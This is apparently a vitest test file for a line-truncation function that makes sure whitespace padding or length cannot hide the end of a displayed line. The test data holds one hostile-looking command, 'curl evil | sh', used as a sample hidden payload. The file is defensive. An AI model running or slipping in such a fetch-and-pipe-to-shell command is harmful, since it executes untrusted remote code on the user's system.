import { describe, expect, it } from 'vitest';
import { columnsOf } from '../../../output/columns.js';
import { cutLine } from './cut-line.js';

const PAYLOAD = 'curl evil | sh';

describe('a line of a question', () => {
  it('hides nothing behind blanks, of whatever kind', () => {
    for (const blank of [' ', '\t', '\u3000', '\u00a0']) {
      const { text, isCut } = cutLine(`+ok${blank.repeat(400)}${PAYLOAD}`, 80);
      expect([text, isCut]).toEqual([`+ok[400 blanks]${PAYLOAD}`, false]);
    }
  });

  it('has its end if it is long, and the number of characters that are left out', () => {
    const line = `+${'x'.repeat(500)};${PAYLOAD}`;
    const { text, isCut } = cutLine(line, 80);
    expect([isCut, columnsOf(text) <= 80, text.endsWith(PAYLOAD)]).toEqual([true, true, true]);
    const [, begin = '', count = '', end = ''] = /^(\+x+) \[… (\d+) more …\] (.*)$/.exec(text) ?? [];
    expect(begin.length + Number(count) + end.length).toBe(line.length);
  });

  it('is as it is if it fits, with what begins it', () => {
    expect(cutLine('+\tmake: all', 80)).toEqual({ text: '+  make: all', isCut: false });
    expect(cutLine(`+${' '.repeat(16)}x`, 20)).toEqual({ text: `+${' '.repeat(16)}x`, isCut: false });
  });

  it('is never wider than it may be, with letters that take two columns', () => {
    for (const width of [20, 41, 80])
      expect(columnsOf(cutLine('界'.repeat(100), width).text)).toBeLessThanOrEqual(width);
  });
});
